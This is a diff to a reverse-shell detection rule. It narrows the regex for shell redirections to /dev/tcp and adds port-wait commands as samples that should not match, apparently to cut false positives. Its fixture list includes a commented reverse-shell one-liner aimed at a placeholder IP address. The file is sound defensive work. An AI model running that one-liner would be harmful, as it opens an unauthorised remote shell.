@@ -54,7 +54,7 @@ export const reverseShell: RuleSet = {
       when: command(
         is(
           ['/dev/tcp/', '/dev/udp/'],
-          /(?:bash|sh|exec|zsh|ksh)\b[^\n]{0,60}?[<>]\s*&?\s*"?\/dev\/(?:tcp|udp)\/[^\s]{3,80}/,
+          /(?:(?:bash|sh|zsh|ksh)\b(?!\s{1,4}-c\s{1,4}["']\s{0,4}\(?(?:cat|echo|printf|true|:|exec\s\d)?[^"'|;&\n]{0,24}[<>]\s?"?\/dev\/tcp\/[^\s"';|&]{3,60}["')])|exec\b(?!\s{1,2}\d{0,2}<>\s?"?\/dev\/tcp\/[^\s;|&)]{3,60}\)))[^\n]{0,60}?[<>]\s*&?\s*"?\/dev\/(?:tcp|udp)\/[^\s]{3,80}/,
           { before: 80, after: 140 },
         ),
       ),
@@ -67,6 +67,9 @@ export const reverseShell: RuleSet = {
         sh('# bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
         py('PATTERN = re.compile("bash -i >& /dev/tcp/")'),
         sh('timeout 1 cat < /dev/null > /dev/tcp/localhost/5432'),
+        sh('until (exec 3<>"/dev/tcp/$host/$port") 2>/dev/null; do sleep 1; done'),
+        sh("until timeout 1 bash -c '</dev/tcp/db/5432'; do sleep 1; done"),
+        sh('timeout 1 bash -c "echo > /dev/tcp/$HOST/$PORT"'),
       ],
     },
     {
